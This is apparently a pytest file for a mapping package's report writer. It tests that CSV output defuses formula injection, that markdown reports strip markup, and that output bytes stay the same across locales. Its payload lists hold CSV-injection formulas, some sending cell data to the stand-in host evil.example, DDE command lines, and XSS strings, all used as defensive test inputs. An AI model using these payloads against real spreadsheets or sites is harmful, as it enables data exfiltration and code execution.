"""Names that attack: in tables, reports and manifests they are text, and the same bytes everywhere."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from clustermap.reports import csv_text, manifest_text, markdown_report, read_csv

# openings that the OWASP page on CSV injection names, alone, behind blanks and in known attacks
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://evil.example?", A1), "//a")', "@SUM(1+9)*cmd|' /C calc'!A0", '=1+1";=1+2', " =1+1",
    "\u00a0=1+1", "\ufeff=1+1", "  +1", "=\u202e1+1", '"=1+1', "'=1+1", "''=1+1",
]  # fmt: skip
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
MARKUP = [
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "${alert(1)}", "`", "</script><script>alert(1)",
    '"><svg onload=alert(1)>', "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>", "{{7*7}}", "<!--", "]]>",
    "&lt;img src=x onerror=alert(1)&gt;", "<iframe src=//evil.example>", "<style>*{display:none}</style>",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_and_no_heading_begins_a_formula(text):
    written = csv_text(pd.DataFrame({text: [text, "x"], "n": [-1.5, 2.0]}))
    cells = [cell for line in csv.reader(io.StringIO(written, newline="")) for cell in line]
    assert len(cells) == 6  # no cell breaks out of its row
    for cell in cells:
        bare = cell.strip(" \u00a0\ufeff")
        assert not bare.startswith(STARTS) or cell == "-1.5"


@pytest.mark.parametrize("text", FORMULAS + MARKUP)
def test_what_was_defused_is_read_back_as_it_was(text):
    frame = pd.DataFrame({text: [text, "x"], "n": [-1.5, 2.0]})
    pd.testing.assert_frame_equal(read_csv(io.StringIO(csv_text(frame), newline="")), frame)


@pytest.mark.parametrize("text", MARKUP)
def test_a_report_holds_no_tag_from_data(text):
    frame = pd.DataFrame({text: [text]})
    report = markdown_report(
        title=text, first=[text], sentences=[text], sections=[(text, text), (text, frame)]
    )
    assert "<" not in report
    assert "](" not in report


@pytest.mark.parametrize("text", FORMULAS + MARKUP)
def test_a_manifest_stays_json(text):
    written = manifest_text(
        study={"study": {"title": text}}, inputs=[], parameters={}, ledgers={}, warnings=[text], outputs={}
    )
    assert json.loads(written)["warnings"] == [text]


EVERYTHING = """
import sys
from pathlib import Path
import geopandas as gpd, numpy as np, pandas as pd
from shapely import box
from clustermap.ledger import Ledger
from clustermap.randomness import stream
from clustermap.reports import csv_text, geopackage, manifest_text, markdown_report
from clustermap.storage import content_hash, safe_name, write_text

out = Path("out")
draws = stream(7, "bytes").random(20)
frame = pd.DataFrame({"name": [f"Île {i}" for i in range(20)], "lq": draws, "n": np.arange(20) * 12345.0,
                      "day": pd.Timestamp("2024-02-29"), "I": ["İIi"] * 20})
ledger = Ledger.from_reasons(frame["name"].where(frame["lq"] < 0.5, "accepted").mask(frame["lq"] < 0.5, "outside"),
                             verdicts={"outside": "set aside"}, values=frame["lq"])
write_text(out / "a.csv", csv_text(frame))
report = markdown_report(title="İ", first=[], sentences=[ledger.summary()], sections=[("t", frame)])
write_text(out / "report.md", report)
write_text(out / "m.json", manifest_text(study={"set": {"x", "y", "z"}, "slug": safe_name("İI Tyne")}, inputs=[],
           parameters={}, ledgers={"l": ledger.to_dict()}, warnings=[], outputs={}))
areas = gpd.GeoDataFrame(frame, geometry=[box(i, 0, i + 1, 1) for i in range(20)], crs=27700)
geopackage(out / "a.gpkg", {"footprints": areas.iloc[:0], "areas": areas})
print(content_hash(*(p.name + p.read_bytes().hex() for p in sorted(out.iterdir()))))
"""
RUN = "import runpy, sys; runpy.run_path(sys.argv[1])"


def test_the_bytes_are_the_same_in_any_locale_time_zone_and_folder(python, tmp_path):
    settings = [
        {"PYTHONHASHSEED": "1", "TZ": "UTC", "LC_ALL": "C"},
        {"PYTHONHASHSEED": "2", "TZ": "Pacific/Kiritimati", "LC_ALL": "tr_TR.UTF-8", "LANG": "tr_TR.UTF-8"},
        {"PYTHONHASHSEED": "3", "TZ": "America/St_Johns", "LC_ALL": "de_DE.ISO-8859-1", "PYTHONUTF8": "0",
         "PYTHONIOENCODING": "latin-1"},
    ]  # fmt: skip
    said, script = set(), tmp_path / "script.py"
    script.write_text(EVERYTHING, encoding="utf-8")
    for number, variables in enumerate(settings):
        folder = tmp_path / ("a folder" if "PYTHONUTF8" in variables else f"ördner {number}")
        folder.mkdir()
        done = python(RUN, script, cwd=folder, env=variables, umask=0o077 if number else -1)
        assert done.returncode == 0, done.stderr
        said.add(done.stdout)
    assert len(said) == 1
